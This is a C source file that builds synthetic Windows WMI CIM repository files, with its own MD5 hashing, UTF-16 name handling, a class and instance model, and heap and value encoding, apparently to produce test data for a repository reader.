/* cimgen: writer of synthetic WMI CIM repositories (see cimgen.h).
 *
 * Written from shared/docs/cim-format-notes.md (cited as §n) and from the
 * bytes of the real repositories in shared/corpus/cim, deliberately not from
 * lib/cim. Layout decisions that copy Windows (observed on the corpus):
 * property lists sorted by name, heap with the class name at offset 0, 0xFF
 * in class value slots without default, KI_ keys on the class declaring the
 * keys, reference records behind KI_/IR_/R_ keys, big objects alone on a
 * page with a one-entry TOC. */
#include "gen/cimgen.h"
#include "gen/evtxgen.h"

#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define PAGE 8192u
#define NONE32 0xFFFFFFFFu

/* ------------------------------------------------------------------ */
/* memory                                                               */

static void oom(void)
{
    fputs("cimgen: out of memory\n", stderr);
    abort();
}

static void *xmalloc(size_t n)
{
    void *p = malloc(n ? n : 1);
    if (!p) oom();
    return p;
}

static void *xcalloc(size_t n, size_t sz)
{
    void *p = calloc(n ? n : 1, sz ? sz : 1);
    if (!p) oom();
    return p;
}

/* Grows *p (elements of elsz) to hold need elements. */
static void grow(void *pp, size_t *cap, size_t need, size_t elsz)
{
    void **p = pp;
    if (need <= *cap) return;
    size_t nc = *cap ? *cap * 2 : 8;
    while (nc < need) nc *= 2;
    void *q = realloc(*p, nc * elsz);
    if (!q) oom();
    *p = q;
    *cap = nc;
}

typedef struct chunk {
    struct chunk *next;
    size_t used, cap;
    max_align_t data[];
} chunk;

struct cimgen_arena {
    chunk *head;
};

static void *aalloc(cimgen_model *m, size_t n)
{
    n = (n + 15) & ~(size_t)15;
    chunk *c = m->arena->head;
    if (!c || c->cap - c->used < n) {
        size_t cap = n > (1u << 20) ? n : (1u << 20);
        c = xmalloc(sizeof(chunk) + cap);
        c->used = 0;
        c->cap = cap;
        c->next = m->arena->head;
        m->arena->head = c;
    }
    void *p = (char *)c->data + c->used;
    c->used += n;
    return p;
}

static char *astrdup(cimgen_model *m, const char *s)
{
    if (!s) return NULL;
    size_t n = strlen(s) + 1;
    char *p = aalloc(m, n);
    memcpy(p, s, n);
    return p;
}

static void seterr(cimgen_model *m, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void seterr(cimgen_model *m, const char *fmt, ...)
{
    if (m->error[0]) return; // keep the first cause
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(m->error, sizeof(m->error), fmt, ap);
    va_end(ap);
}

/* Deep copy of a value into the model. */
static cimgen_val copyval(cimgen_model *m, cimgen_val v)
{
    if (v.kind == CIMGEN_K_STR && !v.array) v.s = astrdup(m, v.s ? v.s : "");
    if (!v.array) return v;
    size_t n = v.n;
    switch (v.kind) {
    case CIMGEN_K_INT: {
        int64_t *a = aalloc(m, n * sizeof(*a) + 1);
        if (n) memcpy(a, v.ai, n * sizeof(*a));
        v.ai = a;
        break;
    }
    case CIMGEN_K_UINT: {
        uint64_t *a = aalloc(m, n * sizeof(*a) + 1);
        if (n) memcpy(a, v.au, n * sizeof(*a));
        v.au = a;
        break;
    }
    case CIMGEN_K_REAL: {
        double *a = aalloc(m, n * sizeof(*a) + 1);
        if (n) memcpy(a, v.ad, n * sizeof(*a));
        v.ad = a;
        break;
    }
    case CIMGEN_K_BOOL: {
        bool *a = aalloc(m, n * sizeof(*a) + 1);
        if (n) memcpy(a, v.ab, n * sizeof(*a));
        v.ab = a;
        break;
    }
    case CIMGEN_K_STR: {
        const char **a = aalloc(m, n * sizeof(*a) + 1);
        for (size_t i = 0; i < n; i++) a[i] = astrdup(m, v.as[i] ? v.as[i] : "");
        v.as = a;
        break;
    }
    default:
        break;
    }
    return v;
}

/* ------------------------------------------------------------------ */
/* hashes: MD5 (RFC 1321), written here so the writer shares no code with */
/* the reader; SHA-256 is the EVTX writer's (evtxgen_sha256), also ours    */

static uint32_t rol(uint32_t x, unsigned n) { return (x << n) | (x >> (32 - n)); }

static const uint32_t KMD5[64] = {
    0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501,
    0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be, 0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821,
    0xf61e2562, 0xc040b340, 0x265e5a51, 0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
    0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8, 0x676f02d9, 0x8d2a4c8a,
    0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c, 0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70,
    0x289b7ec6, 0xeaa127fa, 0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
    0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1,
    0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1, 0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391};
static const uint8_t RMD5[64] = {7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22,
                                 5, 9,  14, 20, 5, 9,  14, 20, 5, 9,  14, 20, 5, 9,  14, 20,
                                 4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23,
                                 6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21};

static void md5_block(uint32_t h[4], const uint8_t *p)
{
    uint32_t m[16];
    for (int i = 0; i < 16; i++)
        m[i] = p[4 * i] | (uint32_t)p[4 * i + 1] << 8 | (uint32_t)p[4 * i + 2] << 16 | (uint32_t)p[4 * i + 3] << 24;
    uint32_t a = h[0], b = h[1], c = h[2], d = h[3];
    for (int i = 0; i < 64; i++) {
        uint32_t f;
        int g;
        if (i < 16) {
            f = (b & c) | (~b & d);
            g = i;
        } else if (i < 32) {
            f = (d & b) | (~d & c);
            g = (5 * i + 1) % 16;
        } else if (i < 48) {
            f = b ^ c ^ d;
            g = (3 * i + 5) % 16;
        } else {
            f = c ^ (b | ~d);
            g = (7 * i) % 16;
        }
        uint32_t t = d;
        d = c;
        c = b;
        b = b + rol(a + f + KMD5[i] + m[g], RMD5[i]);
        a = t;
    }
    h[0] += a;
    h[1] += b;
    h[2] += c;
    h[3] += d;
}

static void md5_digest(const uint8_t *p, size_t n, uint8_t out[16])
{
    uint32_t h[4] = {0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476};
    uint64_t bits = (uint64_t)n * 8;
    while (n >= 64) {
        md5_block(h, p);
        p += 64;
        n -= 64;
    }
    uint8_t tail[128] = {0};
    memcpy(tail, p, n);
    tail[n] = 0x80;
    size_t tl = n + 9 <= 64 ? 64 : 128;
    for (int i = 0; i < 8; i++) tail[tl - 8 + i] = (uint8_t)(bits >> (8 * i));
    md5_block(h, tail);
    if (tl == 128) md5_block(h, tail + 64);
    for (int i = 0; i < 4; i++)
        for (int j = 0; j < 4; j++) out[4 * i + j] = (uint8_t)(h[i] >> (8 * j));
}

/* ------------------------------------------------------------------ */
/* text                                                                 */

/* Next code point of UTF-8 text; invalid bytes give U+FFFD. */
static uint32_t utf8_next(const unsigned char **pp)
{
    const unsigned char *p = *pp;
    uint32_t c = *p++;
    int extra = 0;
    if (c >= 0xF0 && c < 0xF8) {
        c &= 0x07;
        extra = 3;
    } else if (c >= 0xE0) {
        c &= 0x0F;
        extra = 2;
    } else if (c >= 0xC0) {
        c &= 0x1F;
        extra = 1;
    } else if (c >= 0x80) {
        *pp = p;
        return 0xFFFD;
    }
    for (int i = 0; i < extra; i++) {
        if ((*p & 0xC0) != 0x80) {
            *pp = p;
            return 0xFFFD;
        }
        c = c << 6 | (*p++ & 0x3F);
    }
    *pp = p;
    return c;
}

/* UTF-16 code units of s; returns the count (out may be NULL). */
static size_t to_utf16(const char *s, uint16_t *out)
{
    const unsigned char *p = (const unsigned char *)s;
    size_t n = 0;
    while (*p) {
        uint32_t c = utf8_next(&p);
        if (c >= 0x10000) {
            c -= 0x10000;
            if (out) {
                out[n] = (uint16_t)(0xD800 | (c >> 10));
                out[n + 1] = (uint16_t)(0xDC00 | (c & 0x3FF));
            }
            n += 2;
        } else {
            if (out) out[n] = (uint16_t)c;
            n++;
        }
    }
    return n;
}

/* Upper case as Windows does for names we use: ASCII, Latin-1, Greek and
 * Cyrillic basics (the notes, §8, warn that the full table is untested). */
static uint16_t upcase(uint16_t c)
{
    if (c >= 'a' && c <= 'z') return (uint16_t)(c - 32);
    if (c >= 0xE0 && c <= 0xFE && c != 0xF7) return (uint16_t)(c - 32);
    if (c == 0xFF) return 0x178;
    if (c >= 0x3B1 && c <= 0x3C9 && c != 0x3C2) return (uint16_t)(c - 32);
    if (c >= 0x430 && c <= 0x44F) return (uint16_t)(c - 32);
    if (c >= 0x450 && c <= 0x45F) return (uint16_t)(c - 80);
    return c;
}

void cimgen_hash_name(const char *utf8, bool xp, char out[65])
{
    size_t n = to_utf16(utf8, NULL);
    uint16_t *u = xmalloc(n * 2 + 2);
    to_utf16(utf8, u);
    uint8_t *b = xmalloc(n * 2 + 2);
    for (size_t i = 0; i < n; i++) {
        uint16_t c = upcase(u[i]);
        b[2 * i] = (uint8_t)c;
        b[2 * i + 1] = (uint8_t)(c >> 8);
    }
    uint8_t d[32];
    size_t dl = xp ? 16 : 32;
    if (xp)
        md5_digest(b, n * 2, d);
    else
        evtxgen_sha256(b, n * 2, d);
    static const char hx[] = "0123456789ABCDEF";
    for (size_t i = 0; i < dl; i++) {
        out[2 * i] = hx[d[i] >> 4];
        out[2 * i + 1] = hx[d[i] & 15];
    }
    out[2 * dl] = 0;
    free(u);
    free(b);
}

static int ci_cmp(const char *a, const char *b)
{
    for (;; a++, b++) {
        int x = (unsigned char)*a, y = (unsigned char)*b;
        if (x >= 'a' && x <= 'z') x -= 32;
        if (y >= 'a' && y <= 'z') y -= 32;
        if (x != y || !x) return x - y;
    }
}

/* ------------------------------------------------------------------ */
/* model                                                                */

cimgen_model *cimgen_model_new(void)
{
    cimgen_model *m = xcalloc(1, sizeof(*m));
    m->arena = xcalloc(1, sizeof(*m->arena));
    cimgen_namespace(m, "root");
    cimgen_namespace(m, "__SystemClass");
    return m;
}

void cimgen_model_free(cimgen_model *m)
{
    if (!m) return;
    for (size_t i = 0; i < m->nns; i++) {
        free(m->ns[i]->classes);
        free(m->ns[i]->inst);
    }
    for (size_t i = 0; i < m->nclasses; i++) {
        cimgen_class *c = m->classes[i];
        for (size_t j = 0; j < c->nown; j++) free(c->own[j]->quals);
        free(c->own);
        free(c->all);
        free(c->quals);
    }
    for (size_t i = 0; i < m->ninst; i++) free(m->inst[i]->set);
    free(m->ns);
    free(m->classes);
    free(m->inst);
    chunk *c = m->arena->head;
    while (c) {
        chunk *n = c->next;
        free(c);
        c = n;
    }
    free(m->arena);
    free(m);
}

cimgen_ns *cimgen_find_namespace(const cimgen_model *m, const char *path)
{
    for (size_t i = 0; i < m->nns; i++)
        if (ci_cmp(m->ns[i]->path, path) == 0) return m->ns[i];
    return NULL;
}

cimgen_ns *cimgen_namespace(cimgen_model *m, const char *path)
{
    cimgen_ns *ns = cimgen_find_namespace(m, path);
    if (ns) return ns;
    cimgen_ns *parent = NULL;
    const char *bs = strrchr(path, '\\');
    if (bs) {
        char *pp = xmalloc((size_t)(bs - path) + 1);
        memcpy(pp, path, (size_t)(bs - path));
        pp[bs - path] = 0;
        parent = cimgen_namespace(m, pp);
        free(pp);
        if (!parent) return NULL;
    } else if (ci_cmp(path, "root") != 0 && ci_cmp(path, "__SystemClass") != 0) {
        seterr(m, "namespace %s does not start at root", path);
        return NULL;
    }
    ns = aalloc(m, sizeof(*ns));
    memset(ns, 0, sizeof(*ns));
    ns->path = astrdup(m, ci_cmp(path, "root") == 0 ? "root" : path);
    ns->parent = parent;
    ns->id = m->nns;
    grow(&m->ns, &m->nscap, m->nns + 1, sizeof(*m->ns));
    m->ns[m->nns++] = ns;
    m->finalized = false;
    return ns;
}

cimgen_class *cimgen_find_class(const cimgen_model *m, const char *nspath, const char *name)
{
    cimgen_ns *ns = cimgen_find_namespace(m, nspath);
    if (!ns) return NULL;
    for (size_t i = 0; i < ns->nclasses; i++)
        if (ci_cmp(ns->classes[i]->name, name) == 0) return ns->classes[i];
    return NULL;
}

cimgen_class *cimgen_class_add(cimgen_model *m, const char *nspath, const char *name, const char *super,
                               uint64_t defined)
{
    cimgen_ns *ns = cimgen_namespace(m, nspath);
    if (!ns) return NULL;
    if (cimgen_find_class(m, nspath, name)) {
        seterr(m, "class %s:%s defined twice", nspath, name);
        return NULL;
    }
    cimgen_class *c = aalloc(m, sizeof(*c));
    memset(c, 0, sizeof(*c));
    c->ns = ns;
    c->name = astrdup(m, name);
    c->super_name = super && *super ? astrdup(m, super) : NULL;
    c->defined = defined;
    c->id = m->nclasses;
    grow(&ns->classes, &ns->ccap, ns->nclasses + 1, sizeof(*ns->classes));
    ns->classes[ns->nclasses++] = c;
    grow(&m->classes, &m->ccap, m->nclasses + 1, sizeof(*m->classes));
    m->classes[m->nclasses++] = c;
    m->finalized = false;
    return c;
}

void cimgen_class_qual(cimgen_model *m, cimgen_class *c, const char *name, cimgen_val v, uint8_t flavor)
{
    if (!c) return;
    grow(&c->quals, &c->qcap, c->nquals + 1, sizeof(*c->quals));
    c->quals[c->nquals++] = (cimgen_qual){astrdup(m, name), copyval(m, v), flavor};
}

cimgen_prop *cimgen_prop_add(cimgen_model *m, cimgen_class *c, const char *name, uint32_t type, unsigned flags,
                             const cimgen_val *dflt)
{
    if (!c) return NULL;
    cimgen_prop *p = aalloc(m, sizeof(*p));
    memset(p, 0, sizeof(*p));
    p->name = astrdup(m, name);
    p->type = type;
    p->key = (flags & CIMGEN_KEY) != 0;
    if (dflt && dflt->kind != CIMGEN_K_UNSET && dflt->kind != CIMGEN_K_NULL) {
        p->has_default = true;
        p->dflt = copyval(m, *dflt);
    }
    p->origin = c;
    grow(&c->own, &c->owncap, c->nown + 1, sizeof(*c->own));
    c->own[c->nown++] = p;
    m->finalized = false;
    return p;
}

cimgen_prop *cimgen_ref_add(cimgen_model *m, cimgen_class *c, const char *name, const char *refclass, unsigned flags)
{
    cimgen_prop *p = cimgen_prop_add(m, c, name, CIMGEN_REFERENCE, flags, NULL);
    if (p) p->refclass = astrdup(m, refclass);
    return p;
}

void cimgen_prop_qual(cimgen_model *m, cimgen_prop *p, const char *name, cimgen_val v, uint8_t flavor)
{
    if (!p) return;
    grow(&p->quals, &p->qcap, p->nquals + 1, sizeof(*p->quals));
    p->quals[p->nquals++] = (cimgen_qual){astrdup(m, name), copyval(m, v), flavor};
}

cimgen_inst *cimgen_instance_add(cimgen_model *m, const char *nspath, const char *cls, uint64_t ts_written)
{
    cimgen_ns *ns = cimgen_namespace(m, nspath);
    if (!ns) return NULL;
    cimgen_inst *in = aalloc(m, sizeof(*in));
    memset(in, 0, sizeof(*in));
    in->ns = ns;
    in->class_name = astrdup(m, cls);
    in->ts_written = ts_written;
    grow(&ns->inst, &ns->icap, ns->ninst + 1, sizeof(*ns->inst));
    ns->inst[ns->ninst++] = in;
    grow(&m->inst, &m->icap, m->ninst + 1, sizeof(*m->inst));
    m->inst[m->ninst++] = in;
    m->finalized = false;
    return in;
}

void cimgen_set(cimgen_model *m, cimgen_inst *in, const char *prop, cimgen_val v)
{
    if (!in) return;
    for (size_t i = 0; i < in->nset; i++)
        if (ci_cmp(in->set[i].prop, prop) == 0) {
            in->set[i].v = copyval(m, v);
            return;
        }
    grow(&in->set, &in->setcap, in->nset + 1, sizeof(*in->set));
    in->set[in->nset++] = (cimgen_setval){astrdup(m, prop), copyval(m, v)};
    m->finalized = false;
}

const cimgen_val *cimgen_get(const cimgen_inst *in, const char *prop)
{
    for (size_t i = 0; i < in->nset; i++)
        if (ci_cmp(in->set[i].prop, prop) == 0 && in->set[i].v.kind != CIMGEN_K_UNSET) return &in->set[i].v;
    return NULL;
}

cimgen_inst *cimgen_find_instance(const cimgen_model *m, const char *nspath, const char *cls, const char *keyprop,
                                  const char *keyval)
{
    for (size_t i = 0; i < m->ninst; i++) {
        cimgen_inst *in = m->inst[i];
        if (ci_cmp(in->ns->path, nspath) || ci_cmp(in->class_name, cls)) continue;
        const cimgen_val *v = cimgen_get(in, keyprop);
        if (v && v->kind == CIMGEN_K_STR && !v->array && strcmp(v->s, keyval) == 0) return in;
    }
    return NULL;
}

void cimgen_delete_instance(cimgen_inst *in, cimgen_del how)
{
    if (in) in->deleted = how;
}

void cimgen_stale_copy(cimgen_inst *in, cimgen_del how)
{
    if (in) in->stale_copy = how;
}

void cimgen_delete_class(cimgen_class *c, cimgen_del how)
{
    if (c) c->deleted = how;
}

const cimgen_prop *cimgen_class_prop(const cimgen_class *c, const char *name)
{
    for (size_t i = 0; i < c->nall; i++)
        if (ci_cmp(c->all[i]->name, name) == 0) return c->all[i];
    return NULL;
}

bool cimgen_class_default(const cimgen_class *c, const cimgen_prop *p, cimgen_val *out)
{
    (void)c; // defaults are not overridden in subclasses (not modelled)
    if (!p->has_default) return false;
    if (out) *out = p->dflt;
    return true;
}

/* ------------------------------------------------------------------ */
/* finalize: super classes, layouts, __NAMESPACE instances              */

static cimgen_class *resolve_class(const cimgen_model *m, const cimgen_ns *ns, const char *name)
{
    cimgen_class *c = cimgen_find_class(m, ns->path, name);
    if (!c) c = cimgen_find_class(m, "__SystemClass", name);
    return c;
}

static uint32_t slot_size(uint32_t type)
{
    if (type & CIMGEN_ARRAY) return 4;
    switch (type & CIMGEN_TYPE_MASK) {
    case CIMGEN_SINT8:
    case CIMGEN_UINT8:
        return 1;
    case CIMGEN_SINT16:
    case CIMGEN_UINT16:
    case CIMGEN_CHAR16:
    case CIMGEN_BOOLEAN:
        return 2;
    case CIMGEN_SINT64:
    case CIMGEN_UINT64:
    case CIMGEN_REAL64:
        return 8;
    default:
        return 4; // 32-bit, real32, and heap offsets of strings, datetimes, references, objects
    }
}

static bool layout(cimgen_model *m, cimgen_class *c, int depth)
{
    if (c->all) return true;
    if (depth > 64) {
        seterr(m, "class %s: derivation loops", c->name);
        return false;
    }
    c->super = NULL;
    if (c->super_name) {
        c->super = resolve_class(m, c->ns, c->super_name);
        if (!c->super) {
            seterr(m, "class %s:%s: super class %s not found", c->ns->path, c->name, c->super_name);
            return false;
        }
        if (!layout(m, c->super, depth + 1)) return false;
    }
    size_t ninh = c->super ? c->super->nall : 0;
    uint32_t slot = 0;
    c->level = c->super ? c->super->level + 1 : 0;
    c->nall = ninh + c->nown;
    c->all = xcalloc(c->nall + 1, sizeof(*c->all));
    for (size_t i = 0; i < ninh; i++) {
        c->all[i] = c->super->all[i];
        slot = c->all[i]->slot + slot_size(c->all[i]->type);
    }
    for (size_t i = 0; i < c->nown; i++) {
        cimgen_prop *p = c->own[i];
        if (c->super && cimgen_class_prop(c->super, p->name)) {
            seterr(m, "class %s: property %s overrides an inherited one (not supported)", c->name, p->name);
            return false;
        }
        p->index = (uint16_t)(ninh + i);
        p->slot = slot;
        p->level = c->level;
        slot += slot_size(p->type);
        c->all[ninh + i] = p;
    }
    // KI_ keys name the topmost class that declares the keys (observed:
    // __Win32Provider instances sit under KI___Provider).
    c->keyclass = c;
    for (cimgen_class *a = c; a; a = a->super)
        for (size_t i = 0; i < a->nown; i++)
            if (a->own[i]->key) {
                c->keyclass = a;
                break;
            }
    return true;
}

static bool check_kind(cimgen_model *m, const char *what, uint32_t type, const cimgen_val *v)
{
    if (v->kind == CIMGEN_K_UNSET || v->kind == CIMGEN_K_NULL) return true;
    bool arr = (type & CIMGEN_ARRAY) != 0;
    uint32_t t = type & CIMGEN_TYPE_MASK;
    bool ok;
    switch (t) {
    case CIMGEN_STRING:
    case CIMGEN_DATETIME:
    case CIMGEN_REFERENCE:
        ok = v->kind == CIMGEN_K_STR;
        break;
    case CIMGEN_REAL32:
    case CIMGEN_REAL64:
        ok = v->kind == CIMGEN_K_REAL;
        break;
    case CIMGEN_BOOLEAN:
        ok = v->kind == CIMGEN_K_BOOL;
        break;
    case CIMGEN_OBJECT:
        ok = false;
        break;
    default:
        ok = v->kind == CIMGEN_K_INT || v->kind == CIMGEN_K_UINT;
    }
    if (ok && v->array != arr) ok = false;
    if (!ok) seterr(m, "%s: value does not fit type 0x%x", what, (unsigned)type);
    return ok;
}

bool cimgen_finalize(cimgen_model *m)
{
    // Errors of earlier calls (a class defined twice...) stay reported.
    if (m->finalized || m->error[0]) return !m->error[0];
    for (size_t i = 0; i < m->nclasses; i++) {
        free(m->classes[i]->all);
        m->classes[i]->all = NULL;
        m->classes[i]->nall = 0;
    }
    // Namespaces exist as __NAMESPACE instances in their parent (§3).
    for (size_t i = 0; i < m->nns; i++) {
        cimgen_ns *ns = m->ns[i];
        if (!ns->parent) continue;
        const char *leaf = strrchr(ns->path, '\\') + 1;
        if (cimgen_find_instance(m, ns->parent->path, "__NAMESPACE", "Name", leaf)) continue;
        if (!cimgen_find_class(m, "__SystemClass", "__NAMESPACE")) {
            if (!cimgen_find_class(m, "__SystemClass", "__SystemClass")) {
                cimgen_class *sc = cimgen_class_add(m, "__SystemClass", "__SystemClass", NULL, cimgen_preset_time);
                cimgen_class_qual(m, sc, "abstract", cimgen_bool(true), 0);
            }
            cimgen_class *nc = cimgen_class_add(m, "__SystemClass", "__NAMESPACE", "__SystemClass",
                                                cimgen_preset_time + 1);
            cimgen_prop_add(m, nc, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
        }
        cimgen_inst *in = cimgen_instance_add(m, ns->parent->path, "__NAMESPACE", cimgen_preset_time + 100);
        cimgen_set(m, in, "Name", cimgen_str(leaf));
        in->auto_namespace = true;
    }
    for (size_t i = 0; i < m->nclasses; i++)
        if (!layout(m, m->classes[i], 0)) return false;
    for (size_t i = 0; i < m->nclasses; i++) {
        cimgen_class *c = m->classes[i];
        for (size_t j = 0; j < c->nown; j++) {
            char what[300];
            snprintf(what, sizeof(what), "default of %s.%s", c->name, c->own[j]->name);
            if (!check_kind(m, what, c->own[j]->type, &c->own[j]->dflt)) return false;
        }
    }
    for (size_t i = 0; i < m->ninst; i++) {
        cimgen_inst *in = m->inst[i];
        in->cls = resolve_class(m, in->ns, in->class_name);
        if (!in->cls) {
            seterr(m, "instance of %s:%s: class not found", in->ns->path, in->class_name);
            return false;
        }
        for (size_t j = 0; j < in->nset; j++) {
            const cimgen_prop *p = cimgen_class_prop(in->cls, in->set[j].prop);
            char what[300];
            snprintf(what, sizeof(what), "%s.%s", in->cls->name, in->set[j].prop);
            if (!p) {
                seterr(m, "%s: no such property", what);
                return false;
            }
            if (!check_kind(m, what, p->type, &in->set[j].v)) return false;
        }
    }
    m->finalized = true;
    return true;
}

/* ------------------------------------------------------------------ */
/* byte buffers                                                         */

typedef struct buf {
    uint8_t *p;
    size_t n, cap;
} buf;

static void b_need(buf *b, size_t more)
{
    if (b->p && b->cap - b->n >= more) return;
    size_t nc = b->cap ? b->cap * 2 : 256;
    while (nc - b->n < more) nc *= 2;
    uint8_t *q = realloc(b->p, nc);
    if (!q) oom();
    b->p = q;
    b->cap = nc;
}

static void b_bytes(buf *b, const void *p, size_t n)
{
    b_need(b, n);
    if (n) memcpy(b->p + b->n, p, n);
    b->n += n;
}

static void b_zero(buf *b, size_t n)
{
    b_need(b, n);
    memset(b->p + b->n, 0, n);
    b->n += n;
}

static void le(uint8_t *d, uint64_t v, unsigned n)
{
    for (unsigned i = 0; i < n; i++) d[i] = (uint8_t)(v >> (8 * i));
}

static void b_u8(buf *b, uint8_t v) { b_bytes(b, &v, 1); }
static void b_u16(buf *b, uint16_t v)
{
    uint8_t d[2];
    le(d, v, 2);
    b_bytes(b, d, 2);
}
static void b_u32(buf *b, uint32_t v)
{
    uint8_t d[4];
    le(d, v, 4);
    b_bytes(b, d, 4);
}
static void b_u64(buf *b, uint64_t v)
{
    uint8_t d[8];
    le(d, v, 8);
    b_bytes(b, d, 8);
}
static void b_free(buf *b)
{
    free(b->p);
    memset(b, 0, sizeof(*b));
}

/* UTF-16LE text without NUL. */
static void b_utf16(buf *b, const char *s)
{
    size_t n = to_utf16(s, NULL);
    uint16_t *u = xmalloc(n * 2 + 2);
    to_utf16(s, u);
    for (size_t i = 0; i < n; i++) b_u16(b, u[i]);
    free(u);
}

/* u32 length in UTF-16 units, then the text (reference records). */
static void b_lenstr16(buf *b, const char *s)
{
    b_u32(b, (uint32_t)to_utf16(s, NULL));
    b_utf16(b, s);
}

/* Heap string (§5.3): flag 0 and one byte per character when every UTF-16
 * unit fits a byte (Latin-1), else flag 1 and UTF-16LE; NUL-terminated. */
static uint32_t heap_str(buf *h, const char *s)
{
    uint32_t off = (uint32_t)h->n;
    size_t n = to_utf16(s, NULL);
    uint16_t *u = xmalloc(n * 2 + 2);
    to_utf16(s, u);
    bool wide = false;
    for (size_t i = 0; i < n; i++)
        if (u[i] > 0xFF) wide = true;
    b_u8(h, wide ? 1 : 0);
    for (size_t i = 0; i < n; i++) {
        if (wide)
            b_u16(h, u[i]);
        else
            b_u8(h, (uint8_t)u[i]);
    }
    if (wide)
        b_u16(h, 0);
    else
        b_u8(h, 0);
    free(u);
    return off;
}

/* ------------------------------------------------------------------ */
/* values                                                               */

static bool stringy(uint32_t t)
{
    t &= CIMGEN_TYPE_MASK;
    return t == CIMGEN_STRING || t == CIMGEN_DATETIME || t == CIMGEN_REFERENCE || t == CIMGEN_OBJECT;
}

static uint64_t val_u64(const cimgen_val *v, size_t i)
{
    switch (v->kind) {
    case CIMGEN_K_INT:
        return (uint64_t)(v->array ? v->ai[i] : v->i);
    case CIMGEN_K_UINT:
        return v->array ? v->au[i] : v->u;
    case CIMGEN_K_BOOL:
        return (v->array ? v->ab[i] : v->b) ? 1 : 0;
    case CIMGEN_K_REAL:
        return (uint64_t)(int64_t)(v->array ? v->ad[i] : v->d);
    default:
        return 0;
    }
}

static double val_real(const cimgen_val *v, size_t i)
{
    if (v->kind == CIMGEN_K_REAL) return v->array ? v->ad[i] : v->d;
    if (v->kind == CIMGEN_K_UINT) return (double)val_u64(v, i);
    return (double)(int64_t)val_u64(v, i);
}

static const char *val_str(const cimgen_val *v, size_t i)
{
    if (v->kind != CIMGEN_K_STR) return "";
    const char *s = v->array ? v->as[i] : v->s;
    return s ? s : "";
}

/* One element of a number-like type, little-endian, slot-sized. */
static void put_num(uint8_t *d, uint32_t t, const cimgen_val *v, size_t i)
{
    t &= CIMGEN_TYPE_MASK;
    switch (t) {
    case CIMGEN_BOOLEAN:
        le(d, val_u64(v, i) ? 0xFFFF : 0, 2); // §5.3: 0xFFFF is true
        break;
    case CIMGEN_REAL32: {
        float f = (float)val_real(v, i);
        uint32_t x;
        memcpy(&x, &f, 4);
        le(d, x, 4);
        break;
    }
    case CIMGEN_REAL64: {
        double f = val_real(v, i);
        uint64_t x;
        memcpy(&x, &f, 8);
        le(d, x, 8);
        break;
    }
    default:
        le(d, val_u64(v, i), slot_size(t));
    }
}

/* Encodes v for type into a slot of slot_size(type) bytes at slot_at in
 * dst (offsets, since dst may be the heap itself and move). */
static void enc_value(buf *heap, buf *dst, size_t slot_at, uint32_t type, const cimgen_val *v)
{
    uint32_t t = type & CIMGEN_TYPE_MASK;
    uint8_t tmp[8] = {0};
    if (type & CIMGEN_ARRAY) {
        // §5.3: arrays live in the heap as a count then the elements;
        // string-like elements are heap offsets of strings.
        uint32_t es = stringy(t) ? 4 : slot_size(t);
        uint32_t off = (uint32_t)heap->n;
        size_t n = v->n;
        b_u32(heap, (uint32_t)n);
        size_t at = heap->n;
        b_zero(heap, n * es);
        for (size_t i = 0; i < n; i++) {
            if (stringy(t)) {
                uint32_t so = heap_str(heap, val_str(v, i));
                le(heap->p + at + 4 * i, so, 4);
            } else {
                put_num(heap->p + at + i * es, t, v, i);
            }
        }
        le(tmp, off, 4);
    } else if (stringy(t)) {
        le(tmp, heap_str(heap, val_str(v, 0)), 4);
    } else {
        put_num(tmp, t, v, 0);
    }
    memcpy(dst->p + slot_at, tmp, slot_size(type));
}

static const char *type_text(uint32_t type, const char *refclass, char *out, size_t n)
{
    const char *s;
    switch (type & CIMGEN_TYPE_MASK) {
    case CIMGEN_SINT8: s = "sint8"; break;
    case CIMGEN_UINT8: s = "uint8"; break;
    case CIMGEN_SINT16: s = "sint16"; break;
    case CIMGEN_UINT16: s = "uint16"; break;
    case CIMGEN_SINT32: s = "sint32"; break;
    case CIMGEN_UINT32: s = "uint32"; break;
    case CIMGEN_SINT64: s = "sint64"; break;
    case CIMGEN_UINT64: s = "uint64"; break;
    case CIMGEN_REAL32: s = "real32"; break;
    case CIMGEN_REAL64: s = "real64"; break;
    case CIMGEN_BOOLEAN: s = "boolean"; break;
    case CIMGEN_STRING: s = "string"; break;
    case CIMGEN_DATETIME: s = "datetime"; break;
    case CIMGEN_CHAR16: s = "char16"; break;
    case CIMGEN_OBJECT: s = "object"; break;
    case CIMGEN_REFERENCE: s = "ref"; break;
    default: s = "unknown";
    }
    // Observed: arrays carry the element type ("uint8" for uint8[]).
    if (refclass && *refclass)
        snprintf(out, n, "%s:%s", s, refclass);
    else
        snprintf(out, n, "%s", s);
    return out;
}

/* ------------------------------------------------------------------ */
/* qualifiers (§5.4)                                                    */

typedef struct qent {
    const char *name;
    uint32_t pre;     /* predefined name number, 0 = named in the heap */
    uint8_t flavor;
    cimgen_val v;
} qent;

/* Predefined qualifier names per [DT] (§5.4, §8): 1 key, 3 read, 4 write,
 * 6 provider, 7 dynamic, 10 CIMTYPE. */
